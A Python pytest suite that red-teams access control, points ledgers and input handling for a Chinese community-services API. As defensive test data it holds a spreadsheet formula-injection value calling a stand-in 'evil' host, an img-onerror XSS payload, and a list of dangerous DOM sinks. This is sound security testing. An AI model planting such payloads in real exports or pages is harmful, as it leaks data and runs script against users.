"""Red team of 三单制 needs and 积分制 points (docs/residents.md, "Needs, orders and claims" and "Points"): each
role tries to read another's need, take a step that is not theirs, spend or approve points outside its reach, smuggle
a formula into the monthly notice and break the endpoints with bad input. Server errors come back as 500 here (not
raised), so "never a 500" is asserted, not assumed."""

import io
import threading
import time
from datetime import timedelta
from pathlib import Path

import pytest
from openpyxl import load_workbook
from sqlalchemy import text

from geo.access.actor import Actor
from geo.access.scope import scope_for
from geo.core import db
from geo.core.errors import Conflict
from geo.core.models import Role
from geo.core.time import china_today
from geo.residents import points_ledger
from geo.access.accounts import create_user
from tests.city import COMM_A, COMM_B, DISTRICT, PASSWORD
from tests.conftest import committed_city, savepoint_client, sign_in_resident
from tests.party_city import build_party_city

ZH = {"Accept-Language": "zh-CN"}
STATIC = Path(__file__).parents[2] / "maps" / "static" / "r"


@pytest.fixture
def client(engine, session):
    """The API on the test session with a savepoint per request; server errors answered as 500, not raised."""
    with savepoint_client(engine, session) as c:
        yield c


@pytest.fixture
def party(session):
    return build_party_city(session)


def _link(session, household: int) -> None:
    """Put the newest resident account on a household's file."""
    session.execute(text("UPDATE resident_accounts SET household_id = :h WHERE user_id = "
                         "(SELECT max(user_id) FROM resident_accounts)"), {"h": household})


@pytest.fixture
def raiser(client, session, party):
    """Resident A, of b1 (甲一小区, community A)."""
    headers = sign_in_resident(client, "13811110001")
    _link(session, party["b1_households"][0])
    return headers


@pytest.fixture
def volunteer(client, raiser):
    """Resident B, on no household's file."""
    return sign_in_resident(client, "13811110002")


@pytest.fixture
def other(client, session, volunteer, party):
    """Resident C, of b6 (乙一小区, community B)."""
    headers = sign_in_resident(client, "13811110003")
    _link(session, party["b6_households"][0])
    return headers


@pytest.fixture
def outsiders(client, session, party):
    """A department's and the planner's tokens: roles with no part in needs or points."""
    create_user(session, username="dept-a", password=PASSWORD, role="department", scope_code=DISTRICT,
                department="民政")
    out = []
    for name in ("dept-a", "planner"):
        r = client.post("/api/v1/auth/token", data={"username": name, "password": PASSWORD})
        assert r.status_code == 200, r.text
        out.append({"Authorization": f"Bearer {r.json()['access_token']}"})
    return out


def raise_need(client, headers, **fields):
    body = {"title": "帮独居老人买菜", "kind": "personal", "description": "王奶奶 3 号楼 2 单元 201，腿脚不便"}
    r = client.post("/api/v1/needs", json=body | fields, headers=headers)
    assert r.status_code == 201, r.text
    return r.json()


def step(client, headers, need, action, **fields):
    return client.post(f"/api/v1/needs/{need['id']}/transitions",
                       json={"action": action, "version": need["version"], **fields}, headers=headers)


def due(days: int = 7) -> str:
    return (china_today() + timedelta(days=days)).isoformat()


def ordered(client, login, raiser, **fields):
    need = raise_need(client, raiser, **fields)
    r = step(client, login("party_staff", COMM_A), need, "order", org="BA12", due_on=due(), title="每周帮一位老人买菜")
    assert r.status_code == 200, r.text
    return r.json()


def claimed(client, login, raiser, volunteer):
    need = ordered(client, login, raiser)
    r = step(client, volunteer, need, "claim")
    assert r.status_code == 200, r.text
    return r.json()


# --- reading another person's need ---------------------------------------------------------------------------------

def test_a_personal_need_is_read_whole_only_by_its_resident_and_staff_of_its_area(client, login, raiser, volunteer,
                                                                                   other, outsiders):
    need = raise_need(client, raiser)
    for headers in (volunteer, other, login("community_staff", COMM_B), login("party_staff", COMM_B),
                    login("grid_worker", f"{COMM_B}001"), login("grid_worker", f"{COMM_A}002")):
        assert client.get(f"/api/v1/needs/{need['id']}", headers=headers).status_code == 404
    for headers in outsiders:
        assert client.get(f"/api/v1/needs/{need['id']}", headers=headers).status_code == 403
        assert client.get("/api/v1/needs", headers=headers).status_code == 403
    assert client.get("/api/v1/needs", headers=volunteer).status_code == 403
    assert client.get("/api/v1/needs", headers=login("community_staff", COMM_B)).json()["items"] == []
    assert client.get("/api/v1/needs/mine", headers=volunteer).json()["items"] == []
    assert client.get("/api/v1/needs/mine", headers=login("community_staff", COMM_A)).status_code == 403


def test_the_board_and_a_claimer_never_read_the_personal_description_or_household(client, login, raiser, volunteer,
                                                                                  other):
    need = ordered(client, login, raiser)
    for headers in (volunteer, other):
        board = client.get("/api/v1/needs/board", params={"community": COMM_A}, headers=headers).json()["items"]
        shown = next(n for n in board if n["id"] == need["id"])
        assert shown["description"] is None and shown["building"] is None and shown["timeline"] is None
        assert "王奶奶" not in str(shown) and "单元" not in str(shown)  # (a timestamp may hold "201")
        assert client.get(f"/api/v1/needs/{need['id']}", headers=headers).json()["description"] is None
    mine = step(client, volunteer, need, "claim").json()
    assert mine["description"] is None and mine["building"] == "b1号楼"
    released = step(client, volunteer, mine, "release", note="临时有事").json()
    again = client.get(f"/api/v1/needs/{need['id']}", headers=volunteer).json()
    assert released["status"] == "ordered" and again["building"] is None and again["timeline"] is None


def test_the_figures_and_the_notice_stay_in_the_callers_area(client, login, raiser, outsiders):
    ordered(client, login, raiser)
    month = china_today().strftime("%Y-%m")
    assert client.get("/api/v1/needs/figures", params={"month": month}, headers=login("party_staff", COMM_B)
                      ).json() == []
    for headers in outsiders:
        assert client.get("/api/v1/needs/monthly.xlsx", params={"month": month}, headers=headers).status_code == 403
    assert client.get("/api/v1/needs/monthly.xlsx", params={"month": month}, headers=raiser).status_code == 403


# --- steps that are not the caller's -------------------------------------------------------------------------------

def test_nobody_claims_their_own_need_or_takes_anothers_steps(client, login, raiser, volunteer, other):
    need = ordered(client, login, raiser)
    assert step(client, raiser, need, "claim").status_code == 403
    need = step(client, volunteer, need, "claim").json()
    assert step(client, other, need, "complete", proof="我做的").status_code == 404  # not theirs to see
    assert step(client, raiser, need, "complete", proof="自己做了").status_code == 403
    assert step(client, raiser, need, "release", note="x").status_code == 403
    need = step(client, volunteer, need, "complete", proof="周六送到").json()
    assert step(client, volunteer, need, "confirm", rating="satisfied").status_code == 403
    assert step(client, login("community_staff", COMM_A), need, "confirm", rating="satisfied").status_code == 403
    assert step(client, login("community_staff", COMM_B), need, "redo", note="x").status_code == 404


def test_staff_do_not_complete_a_volunteers_claim_for_them(client, login, raiser, volunteer):
    """The claimer completes their own claim: an organiser completes only a member's or a unit's."""
    need = claimed(client, login, raiser, volunteer)
    for role in ("party_staff", "community_staff"):
        r = step(client, login(role, COMM_A), need, "complete", proof="已完成")
        assert r.status_code == 403, r.text
    mine = client.get(f"/api/v1/needs/{need['id']}", headers=volunteer).json()
    assert mine["allowed_actions"] == ["release", "complete"]
    staff_view = client.get(f"/api/v1/needs/{need['id']}", headers=login("party_staff", COMM_A)).json()
    assert "complete" not in staff_view["allowed_actions"] and "release" in staff_view["allowed_actions"]


def test_orders_and_member_claims_stay_within_the_needs_community(client, session, login, raiser, party):
    need = raise_need(client, raiser)
    party_a = login("party_staff", COMM_A)
    for org in ("CB", "BB1", "NOPE"):
        r = step(client, party_a, need, "order", org=org, due_on=due(), title="帮一位老人买菜")
        assert r.status_code == 404 and org in r.json()["detail"]
    assert step(client, party_a, need, "order", org="BA12", due_on=due(-1), title="帮一位老人买菜").status_code == 422
    need = step(client, party_a, need, "order", org="BA12", due_on=due(), title="帮一位老人买菜").json()
    r = step(client, login("community_staff", COMM_A), need, "claim", member_id=party["m1"])
    assert r.status_code == 403
    r = step(client, party_a, need, "claim", member_id=party["m4"])  # BB1's member, living in community B
    assert r.status_code == 404 and str(party["m4"]) in r.json()["detail"], r.text
    r = step(client, party_a, need, "claim", member_id=10**18)
    assert r.status_code == 404
    r = step(client, party_a, need, "claim", member_id=party["m1"])
    assert r.status_code == 200 and r.json()["claimer"]["kind"] == "member"


def test_a_blank_proof_or_note_is_refused(client, login, raiser, volunteer):
    need = claimed(client, login, raiser, volunteer)
    r = step(client, volunteer | ZH, need, "complete", proof="   ")
    assert r.status_code == 422 and f"需求 {need['id']}" in r.json()["detail"], r.text
    r = step(client, volunteer, need, "release", note="\n\t ")
    assert r.status_code == 422, r.text
    fresh = raise_need(client, raiser)
    assert step(client, login("party_staff", COMM_A), fresh, "decline", note="  ").status_code == 422


def test_a_stale_version_loses_the_race(client, login, raiser, volunteer, other):
    need = ordered(client, login, raiser)
    assert step(client, volunteer, need, "claim").status_code == 200
    r = step(client, login("party_staff", COMM_A), need, "claim", unit="某物业公司")  # the same version, too late
    assert r.status_code == 409 and r.json()["version"] == need["version"] + 1
    assert step(client, other, need, "claim").status_code == 404  # off the board: nothing of it is shown
    mine = client.get(f"/api/v1/needs/{need['id']}", headers=volunteer).json()
    r = step(client, volunteer, mine | {"version": mine["version"] - 1}, "complete", proof="做完了")
    assert r.status_code == 409 and "reload" in r.json()["detail"]


def test_a_resident_raises_a_need_only_for_their_own_building(client, login, raiser, party):
    r = client.post("/api/v1/needs", json={"title": "修水管", "building_id": party["b6"]}, headers=raiser)
    assert r.status_code == 404, r.text  # another community's building: no name, no compound revealed
    assert "b6" not in r.text
    own = client.post("/api/v1/needs", json={"title": "修水管", "building_id": party["b1"]}, headers=raiser)
    assert own.status_code == 201 and own.json()["building"] == "b1号楼"
    r = client.post("/api/v1/needs", json={"title": "修水管", "building_id": party["b1"]},
                    headers=login("community_staff", COMM_B))
    assert r.status_code == 422  # staff say where they met it (before anything else)
    r = client.post("/api/v1/needs", json={"title": "修水管", "building_id": party["b1"], "source": "visit"},
                    headers=login("community_staff", COMM_B))
    assert r.status_code == 404


# --- points ---------------------------------------------------------------------------------------------------------

def _holder(session, *, user=None, member=None, community=COMM_A, balance=0) -> int:
    holder = session.execute(text("INSERT INTO point_holders (user_id, member_id, name, community_code) VALUES "
                                  "(:u, :m, '某人', :c) RETURNING id"), {"u": user, "m": member, "c": community}
                             ).scalar()
    if balance:
        session.execute(text("INSERT INTO point_entries (holder_id, points, kind, balance, by, at) VALUES "
                             "(:h, :p, 'earn', :p, 'test', now())"), {"h": holder, "p": balance})
    return holder


def _user_of_newest(session) -> int:
    return session.execute(text("SELECT max(user_id) FROM resident_accounts")).scalar()


def _item(client, login, community, cost=10, stock=5) -> dict:
    scope = COMM_A if community == COMM_A else COMM_B
    r = client.post("/api/v1/points/shop", json={"community": community, "name": "洗衣液", "cost": cost,
                                                  "stock": stock}, headers=login("community_staff", scope))
    assert r.status_code == 201, r.text
    return r.json()


def test_a_resident_spends_only_their_own_points_in_their_own_communitys_shop(client, session, login, raiser,
                                                                              volunteer, party):
    rich = _holder(session, member=party["m1"], balance=100)
    mine = _holder(session, user=_user_of_newest(session), balance=5)
    item = _item(client, login, COMM_A)
    r = client.post("/api/v1/points/redeem", json={"item_id": item["id"], "holder_id": rich}, headers=volunteer)
    assert r.status_code == 409  # their own 5 points, not the other holder's 100
    assert points_ledger.balance_of(session, rich) == 100 and points_ledger.balance_of(session, mine) == 5
    b_item = _item(client, login, COMM_B, cost=1)
    r = client.post("/api/v1/points/redeem", json={"item_id": b_item["id"]}, headers=volunteer)
    assert r.status_code == 404
    r = client.post("/api/v1/points/redeem", json={"item_id": item["id"], "holder_id": rich},
                    headers=login("community_staff", COMM_B))
    assert r.status_code == 404
    assert client.get(f"/api/v1/points/holders/{rich}", headers=login("community_staff", COMM_B)).status_code == 404
    assert client.get(f"/api/v1/points/holders/{rich}", headers=volunteer).status_code == 403


def test_staff_at_the_counter_must_name_the_holder(client, login, party):
    item = _item(client, login, COMM_A)
    r = client.post("/api/v1/points/redeem", json={"item_id": item["id"]}, headers=login("community_staff", COMM_A))
    assert r.status_code == 422 and "holder" in r.json()["detail"] and "None" not in r.json()["detail"], r.text


def test_shop_items_have_a_sane_cost_and_stock_in_ones_own_community(client, login, party):
    staff = login("community_staff", COMM_A)
    for cost, stock in ((0, 1), (-5, 1), (10**12, 1), (5, -1), (5, 10**12)):
        r = client.post("/api/v1/points/shop", json={"community": COMM_A, "name": "x", "cost": cost,
                                                      "stock": stock}, headers=staff)
        assert r.status_code == 422, (cost, stock)
    r = client.post("/api/v1/points/shop", json={"community": COMM_B, "name": "x", "cost": 1, "stock": 1},
                    headers=staff)
    assert r.status_code == 404
    r = client.post("/api/v1/points/shop", json={"community": f"{COMM_A}999", "name": "x", "cost": 1, "stock": 1},
                    headers=staff)
    assert r.status_code == 404, r.text  # no such community: not a 500
    r = client.post("/api/v1/points/shop", json={"community": COMM_A, "name": "   ", "cost": 1, "stock": 1},
                    headers=staff)
    assert r.status_code == 422


def _award(session, holder, community=COMM_A, proposed_by="system") -> int:
    return session.execute(text("INSERT INTO point_awards (holder_id, community_code, rule, points, proposed_by, "
                                "proposed_at) VALUES (:h, :c, 'need_personal', 10, :by, now()) RETURNING id"),
                           {"h": holder, "c": community, "by": proposed_by}).scalar()


def test_awards_are_decided_once_within_scope(client, session, login, party, raiser, outsiders):
    holder = _holder(session, member=party["m1"])
    award = _award(session, holder)
    assert client.post(f"/api/v1/points/awards/{award}", json={"approve": True},
                       headers=login("community_staff", COMM_B)).status_code == 404
    for role in ("party_staff", "grid_worker", "command_center"):
        assert client.post(f"/api/v1/points/awards/{award}", json={"approve": True},
                           headers=login(role, COMM_A)).status_code == 403, role
    for headers in outsiders:
        assert client.post(f"/api/v1/points/awards/{award}", json={"approve": True},
                           headers=headers).status_code == 403
    assert client.post(f"/api/v1/points/awards/{award}", json={"approve": True}, headers=raiser).status_code == 403
    staff = login("community_staff", COMM_A)
    assert client.post(f"/api/v1/points/awards/{award}", json={"approve": [1]}, headers=staff).status_code == 422
    assert client.post(f"/api/v1/points/awards/{award}", json={"approve": False}, headers=staff).status_code == 200
    twice = client.post(f"/api/v1/points/awards/{award}", json={"approve": True}, headers=staff | ZH)
    assert twice.status_code == 409 and "已驳回" in twice.json()["detail"] and "rejected" not in twice.text
    assert points_ledger.balance_of(session, holder) == 0
    assert client.get("/api/v1/points/awards", headers=login("community_staff", COMM_B),
                      params={"status": "rejected"}).json() == []


def test_activity_awards_are_proposed_in_scope_and_once(client, session, login, party):
    activity = session.execute(text(
        "SELECT a.id FROM party_activities a JOIN party_orgs o ON o.id = a.org_id WHERE o.code = 'BB1'")).scalar()
    session.execute(text("UPDATE party_activities SET kind = 'volunteer', member_ids = ARRAY[:m]::bigint[] "
                         "WHERE id = :a"), {"a": activity, "m": party["m4"]})
    assert client.post(f"/api/v1/points/activities/{activity}",
                       headers=login("community_staff", COMM_A)).status_code == 404
    staff_b = login("community_staff", COMM_B)
    first = client.post(f"/api/v1/points/activities/{activity}", headers=staff_b)
    assert first.status_code == 201 and len(first.json()["award_ids"]) == 1, first.text
    again = client.post(f"/api/v1/points/activities/{activity}", headers=staff_b)
    assert again.status_code == 201 and again.json()["award_ids"] == []


def test_honours_name_nobody_who_did_not_consent(client, session, login, raiser, volunteer, party):
    _holder(session, member=party["m1"], balance=50)  # no consent: never shown, not even by their name
    session.execute(text("UPDATE point_holders SET name = '张三丰' WHERE member_id = :m"), {"m": party["m1"]})
    assert client.get("/api/v1/points/honours", params={"community": COMM_A}, headers=volunteer).json() == []
    _holder(session, user=_user_of_newest(session), balance=20)
    assert client.put("/api/v1/points/me/honours", json={"consent": True, "shown_name": "热心人"},
                      headers=volunteer).status_code == 200
    assert client.put("/api/v1/points/me/honours", json={"consent": True, "shown_name": "x" * 21},
                      headers=volunteer).status_code == 422
    shown = client.get("/api/v1/points/honours", params={"community": COMM_A}, headers=volunteer).json()
    assert shown == [{"name": "热心人", "points": 20}]
    client.put("/api/v1/points/me/honours", json={"consent": False, "shown_name": "热心人"}, headers=volunteer)
    assert client.get("/api/v1/points/honours", params={"community": COMM_A}, headers=volunteer).json() == []


def test_two_redemptions_at_once_cannot_spend_one_balance_twice(cluster):
    """Two connections redeem two items (10 points each) of a 15-point balance at the same moment: the holder's
    lock makes the second wait for the first and then see the balance it left."""
    with committed_city(cluster, "wangge_points_race") as engine:
        with db.session_factory(engine).begin() as s:
            holder = _holder(s, community=COMM_A, balance=15)
            items = [s.execute(text("INSERT INTO points_items (community_code, name, cost, stock) VALUES "
                                    "(:c, :n, 10, 1) RETURNING id"), {"c": COMM_A, "n": f"物品{i}"}).scalar()
                     for i in (1, 2)]
            staff = Actor("counter", Role.community_staff, scope_for(s, "community_staff", COMM_A))
        results, first_locked = [], threading.Event()

        def spend(item: int, hold: float) -> None:
            with db.session_factory(engine)() as s:
                try:
                    points_ledger.redeem(s, staff, item, holder, audited=False)
                    first_locked.set()
                    time.sleep(hold)  # keep the lock while the other tries
                    s.commit()
                    results.append("spent")
                except Conflict:
                    s.rollback()
                    results.append("refused")

        first = threading.Thread(target=spend, args=(items[0], 0.5))
        first.start()
        assert first_locked.wait(10)
        second = threading.Thread(target=spend, args=(items[1], 0))
        second.start()
        first.join(10)
        second.join(10)
        with engine.connect() as c:
            balances = c.execute(text("SELECT balance FROM point_entries WHERE holder_id = :h ORDER BY id"),
                                 {"h": holder}).scalars().all()
            stock = c.execute(text("SELECT stock FROM points_items WHERE id = :i"), {"i": items[1]}).scalar()
        assert sorted(results) == ["refused", "spent"] and balances == [15, 5] and stock == 1


# --- what is written out --------------------------------------------------------------------------------------------

def test_the_monthly_notice_writes_a_formula_as_text(client, session, login, raiser):
    session.execute(text("UPDATE party_orgs SET name = '=HYPERLINK(\"http://evil/?\"&A1,\"点我\")' WHERE code = 'BA12'"))
    ordered(client, login, raiser)
    sheet = client.get("/api/v1/needs/monthly.xlsx", params={"month": china_today().strftime("%Y-%m")},
                       headers=login("party_staff", COMM_A))
    assert sheet.status_code == 200
    cells = [c for row in load_workbook(io.BytesIO(sheet.content)).active.iter_rows() for c in row]
    evil = [c for c in cells if str(c.value).startswith("=HYPERLINK")]
    assert evil and all(c.data_type == "s" for c in evil)
    assert b"<f>" not in _sheet_xml(sheet.content)


def _sheet_xml(content: bytes) -> bytes:
    import zipfile

    with zipfile.ZipFile(io.BytesIO(content)) as z:
        return b"".join(z.read(n) for n in z.namelist() if n.startswith("xl/worksheets/"))


def test_the_resident_pages_insert_need_text_as_text():
    """Titles, proofs, notes, item and honour names reach the DOM only as text (m.h appends strings as text)."""
    for name in ("need.js", "needs.js", "need_new.js", "points.js"):
        source = (STATIC / name).read_text()
        for sink in ("innerHTML", "outerHTML", "insertAdjacentHTML", "document.write", "eval(", "new Function"):
            assert sink not in source, (name, sink)


def test_need_pages_echo_nothing_of_a_need(client, login, raiser):
    need = raise_need(client, raiser, title="<img src=x onerror=alert(1)>")
    page = client.get(f"/r/needs/{need['id']}", headers=raiser)
    assert page.status_code == 200 and "onerror" not in page.text
    assert "script-src" in page.headers["content-security-policy"]
    assert client.get(f"/api/v1/needs/{need['id']}", headers=raiser).json()["title"] == need["title"]


# --- bad input ------------------------------------------------------------------------------------------------------

@pytest.mark.parametrize("month", ["9999-12", "0001-01", "2026-13", "2026-00", "2026-1", "abcd-ef"])
def test_a_bad_month_is_a_4xx_naming_it(client, login, party, month):
    staff = login("party_staff", COMM_A)
    for path in ("/api/v1/needs/figures", "/api/v1/needs/monthly.xlsx"):
        r = client.get(path, params={"month": month}, headers=staff)
        assert r.status_code == 422, (path, month, r.text)


def test_bad_step_bodies_are_4xx(client, login, raiser):
    need = raise_need(client, raiser)
    party = login("party_staff", COMM_A)
    url = f"/api/v1/needs/{need['id']}/transitions"
    bodies = [{"action": "explode", "version": 1}, {"version": 1}, {"action": "order"},
              {"action": "order", "version": "one"}, {"action": "order", "version": 0},
              {"action": "order", "version": 10**30, "org": "BA12", "due_on": due()},
              {"action": "order", "version": 1, "org": "BA12", "due_on": "tomorrow"},
              {"action": "order", "version": 1, "org": "BA12", "due_on": "9999-01-01"},
              {"action": "order", "version": 1, "org": ["BA12"], "due_on": due()},
              {"action": "claim", "version": 1, "member_id": 10**30}, {"action": "order", "version": 1, "x": 1}]
    for body in bodies:
        r = client.post(url, json=body, headers=party)
        assert r.status_code in (404, 409, 422), (body, r.status_code, r.text)
        assert r.json()["detail"], body
    for path in (f"/api/v1/needs/{10**30}", "/api/v1/needs/-1", "/api/v1/needs/abc"):
        assert client.get(path, headers=party).status_code in (404, 422), path
    r = client.post(f"/api/v1/needs/{10**19}/transitions", json={"action": "cancel", "version": 1}, headers=party)
    assert r.status_code in (404, 422), r.text


def test_bad_need_and_points_bodies_are_4xx(client, login, raiser, volunteer):
    for body in ({"title": ""}, {"title": "x", "kind": "secret"}, {"title": "x", "building_id": 10**30},
                 {"title": "x", "building_id": "b1"}, {"title": "x", "lon": 500, "lat": 39.9},
                 {"title": "   "}, {"title": "x" * 101}, {}):
        r = client.post("/api/v1/needs", json=body, headers=raiser)
        assert r.status_code in (404, 422), (body, r.status_code, r.text)
    r = client.post("/api/v1/needs", json={"title": "x", "lon": 100.0, "lat": 10.0}, headers=raiser)
    assert r.status_code == 404 and "compound" in r.json()["detail"]
    staff = login("community_staff", COMM_A)
    for body in ({"item_id": 10**30}, {"item_id": "a"}, {"item_id": 1, "holder_id": 10**30}, {}):
        assert client.post("/api/v1/points/redeem", json=body, headers=volunteer).status_code in (404, 422), body
        assert client.post("/api/v1/points/redeem", json=body, headers=staff).status_code in (404, 422), body
    for award in (10**30, 10**18):
        assert client.post(f"/api/v1/points/awards/{award}", json={"approve": True},
                           headers=staff).status_code in (404, 422)
    assert client.post(f"/api/v1/points/activities/{10**30}", headers=staff).status_code in (404, 422)
    assert client.get(f"/api/v1/points/holders/{10**30}", headers=staff).status_code in (404, 422)
    assert client.get("/api/v1/points/awards", params={"status": "all"}, headers=staff).status_code == 422


def test_awards_and_statements_do_not_tell_community_staff_who_is_a_party_member(client, session, login, party,
                                                                                 raiser):
    """A member's points name them only to those who may know who is a member; a resident's name is whole only for
    those who may read full names (street staff read the surname), as everywhere else."""
    member = _holder(session, member=party["m1"], balance=5)
    session.execute(text("UPDATE point_holders SET name = '党员张三' WHERE id = :h"), {"h": member})
    resident = _holder(session, user=_user_of_newest(session), balance=5)
    session.execute(text("UPDATE point_holders SET name = '李四光' WHERE id = :h"), {"h": resident})
    _award(session, member)
    _award(session, resident)
    seen = {}
    for role in ("community_staff", "street_staff", "admin"):
        headers = login(role, COMM_A)
        awards = {a["holder_id"]: a["holder_name"] for a in client.get("/api/v1/points/awards", headers=headers).json()}
        statements = {h: client.get(f"/api/v1/points/holders/{h}", headers=headers).json()["holder"]["name"]
                      for h in (member, resident)}
        assert awards == statements, role
        seen[role] = awards
    assert seen["community_staff"] == {member: None, resident: "李四光"}
    assert seen["street_staff"] == {member: None, resident: "李**"}
    assert seen["admin"] == {member: "党员张三", resident: "李四光"}
    assert "党员张三" not in client.get("/api/v1/points/awards", headers=login("community_staff", COMM_A)).text


def _token(client, username):
    r = client.post("/api/v1/auth/token", data={"username": username, "password": PASSWORD})
    assert r.status_code == 200, r.text
    return {"Authorization": f"Bearer {r.json()['access_token']}"}


def test_staff_who_are_members_do_not_approve_their_own_points(client, session, party):
    """`comm` (community A's staff) is also member m1: m1's award waits for someone else."""
    session.execute(text("UPDATE party_members SET staff_id = :s WHERE id = :m"),
                    {"s": party["comm"], "m": party["m1"]})
    award = _award(session, _holder(session, member=party["m1"]))
    r = client.post(f"/api/v1/points/awards/{award}", json={"approve": True}, headers=_token(client, "comm"))
    assert r.status_code == 403 and str(award) in r.json()["detail"], r.text
    assert session.execute(text("SELECT status FROM point_awards WHERE id = :a"), {"a": award}).scalar() == "pending"
    r = client.post(f"/api/v1/points/awards/{award}", json={"approve": True}, headers=_token(client, "street"))
    assert r.status_code == 200


def test_two_proposals_of_one_activity_at_once_make_one_award_each_and_no_500(client, session, login, party,
                                                                               monkeypatch):
    """Both requests pass the "not yet awarded" check before either inserts: the second must not fail."""
    from geo.residents import points

    activity = session.execute(text(
        "SELECT a.id FROM party_activities a JOIN party_orgs o ON o.id = a.org_id WHERE o.code = 'BB1'")).scalar()
    session.execute(text("UPDATE party_activities SET kind = 'volunteer', member_ids = ARRAY[:m]::bigint[] "
                         "WHERE id = :a"), {"a": activity, "m": party["m4"]})
    staff_b = login("community_staff", COMM_B)
    first = client.post(f"/api/v1/points/activities/{activity}", headers=staff_b).json()["award_ids"]
    monkeypatch.setattr(points, "_has_award", lambda *a: False)  # as the concurrent request saw it
    again = client.post(f"/api/v1/points/activities/{activity}", headers=staff_b)
    assert again.status_code == 201 and again.json()["award_ids"] == [], again.text
    assert first and session.execute(text("SELECT count(*) FROM point_awards WHERE activity_id = :a"),
                                     {"a": activity}).scalar() == len(first)


def test_a_home_outside_every_grid_is_a_clear_refusal_not_a_500(client, session, raiser):
    """A household on file in a building no grid or compound covers: the need has no community to go to."""
    building = session.execute(text("INSERT INTO buildings (code, name, geom) VALUES ('T-far', '远处楼', "
                                    "ST_SetSRID(ST_MakePoint(100, 10), 4326)) RETURNING id")).scalar()
    household = session.execute(text("INSERT INTO households (building_id, door) VALUES (:b, '101') RETURNING id"),
                                {"b": building}).scalar()
    _link(session, household)
    r = client.post("/api/v1/needs", json={"title": "修水管"}, headers=raiser | ZH)
    assert r.status_code == 422 and "不属于任何社区" in r.json()["detail"], r.text


def test_two_holders_at_once_cannot_both_take_the_last_item(cluster):
    """The stock is taken by one UPDATE … WHERE stock > 0: the second buyer waits for the first and finds none."""
    with committed_city(cluster, "wangge_stock_race") as engine:
        with db.session_factory(engine).begin() as s:
            holders = [_holder(s, community=COMM_A, balance=50) for _ in range(2)]
            item = s.execute(text("INSERT INTO points_items (community_code, name, cost, stock) VALUES "
                                  "(:c, '最后一件', 10, 1) RETURNING id"), {"c": COMM_A}).scalar()
            staff = Actor("counter", Role.community_staff, scope_for(s, "community_staff", COMM_A))
        results, first_took = [], threading.Event()

        def buy(holder: int, hold: float) -> None:
            with db.session_factory(engine)() as s:
                try:
                    points_ledger.redeem(s, staff, item, holder, audited=False)
                    first_took.set()
                    time.sleep(hold)
                    s.commit()
                    results.append("spent")
                except Conflict:
                    s.rollback()
                    results.append("refused")

        first = threading.Thread(target=buy, args=(holders[0], 0.5))
        first.start()
        assert first_took.wait(10)
        second = threading.Thread(target=buy, args=(holders[1], 0))
        second.start()
        first.join(10)
        second.join(10)
        with engine.connect() as c:
            stock = c.execute(text("SELECT stock FROM points_items WHERE id = :i"), {"i": item}).scalar()
            second_balance = points_ledger.balance_of(c, holders[1])
        assert sorted(results) == ["refused", "spent"] and stock == 0 and second_balance == 50
